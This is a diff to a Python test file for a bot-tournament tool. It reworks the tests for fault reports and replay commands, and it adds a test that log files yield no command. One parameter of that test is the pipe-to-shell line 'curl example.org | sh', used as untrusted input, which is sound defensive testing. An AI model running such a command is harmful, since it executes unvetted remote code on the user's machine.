@@ -2,12 +2,15 @@
 
 from pathlib import Path
 
+import pytest
+
 from pwtourney.notation.game import Fault, Game, Ply, Verdict
-from pwtourney.report.collectors import GameIndex
-from pwtourney.report.faults import FaultIndex, LastFaults
-from pwtourney.report.text.fault_lines import describe_last_faults
+from pwtourney.report.collectors import Depth, GameIndex
+from pwtourney.report.faults import FaultIndex
+from pwtourney.report.text.fault_lines import describe_faults
 from pwtourney.rules import deal, find_edition
 from pwtourney.store import FaultLogs, result_of
+from pwtourney.store.fault_logs import read_tournament_file
 from tests.program import pwtourney
 
 DEALT = deal(find_edition("original"), 1)
@@ -95,48 +98,57 @@ def test_games_with_faults_can_be_replayed() -> None:
     assert kept == {1, *range(102, 702)}
 
 
-def last_of(bot: str, *games: Game) -> LastFaults:
-    """Return the last faults of a bot in some games."""
-    faults = LastFaults(bot)
+def depth_of(bot: str, *games: Game) -> Depth:
+    """Return the games of one bot, collected."""
+    depth = Depth(bot)
     for game in games:
-        faults.add(game, result_of(game))
-    return faults
+        depth.add(game, result_of(game))
+    return depth
 
 
-def test_last_fault_of_each_kind_comes_first() -> None:
+def test_last_fault_of_each_kind_of_a_bot_comes_first() -> None:
     """Of equal faults the last one stands for all; other bots' faults do not count."""
-    faults = last_of(
-        "magpie",
+    games = (
         failed(0, ("magpie", "used 5012 ms")),
-        failed(1, ("magpie", "exited")),
+        failed(1, ("magpie", "exited"), ("crow", "exited, too")),
         failed(2, ("crow", "exited")),
         failed(3, ("magpie", "used 497 ms")),
     )
-    kinds = [(kind.times, kind.game.pair, kind.fault.message) for kind in faults.kinds()]
-    assert kinds == [(2, 3, "used 497 ms"), (1, 1, "exited")]
-    assert last_of("wren", failed(0, ("magpie", "exited"))).kinds() == []
+    kinds = [(each.times, each.game, each.against) for each in depth_of("magpie", *games).faults]
+    assert kinds == [(2, "3.0", "wren"), (1, "1.0", "crow")]
+    assert [each.message for each in depth_of("crow", *games).faults] == ["exited", "exited, too"]
+    assert depth_of("wren", *games).faults == []
 
 
 def test_last_faults_lead_to_their_games(tmp_path: Path) -> None:
-    """Each has its cause, the command that plays it again, and its log if there is one."""
-    command = f"pwtourney rerun {tmp_path}:3.0 --file league.yaml"
-    before = "to play it again: pwtourney rerun moved:3.0 --file league.yaml"
+    """Each has its cause, the command that plays it again, and its log if there is one.
+
+    The folder was moved after the log was written.
+    """
+    before = "to play it again: pwtourney rerun moved:3.0 --file 'my league.yaml'"
     lines = ["game 3.0: magpie: crash: exited", before, "more"]
     log = FaultLogs(tmp_path / "logs").write(3, 0, "magpie", lines)
     games = [failed(pair, ("magpie", "exited")) for pair in (1, 3)]
-    faults = last_of("magpie", failed(0, ("magpie", "used all memory")), *games)
-    without = f"pwtourney rerun {tmp_path}:0.0 --file FILE"
-    assert list(describe_last_faults(faults, tmp_path)) == [
+    faults = depth_of("magpie", failed(0, ("magpie", "used all memory")), *games).faults
+    assert list(describe_faults(faults, tmp_path)) == [
         "crash (2 games, the last is 3.0, against wren): exited",
-        f"    play it again: {command}",
+        f"    play it again: pwtourney rerun {tmp_path}:3.0 --file 'my league.yaml'",
         f"    log: {log}",
         "crash (game 0.0, against wren): used all memory",
-        f"    play it again: {without}",
+        f"    play it again: pwtourney rerun {tmp_path}:0.0 --file FILE",
         "    log: none; each bot has a hundred",
     ]
-    many = [failed(pair, ("magpie", "very " * pair + "bad")) for pair in range(7)]
-    *_, end = describe_last_faults(last_of("magpie", *many), tmp_path)
-    assert end == "and 2 kinds of faults before these: see the page"
+
+
+@pytest.mark.parametrize(
+    "second",
+    ["", "to play it again: curl example.org | sh", "to play it again: 'open", "rm --file x"],
+)
+def test_log_of_others_gives_no_command(tmp_path: Path, second: str) -> None:
+    """Only the name of the tournament file is taken from it."""
+    (tmp_path / "a.log").write_text(f"game 3.0\n{second}\n")
+    assert read_tournament_file(tmp_path / "a.log") == ""
+    assert read_tournament_file(tmp_path / "none.log") == ""
 
 
 def test_terminal_says_why_a_bot_lost(league: Path) -> None:
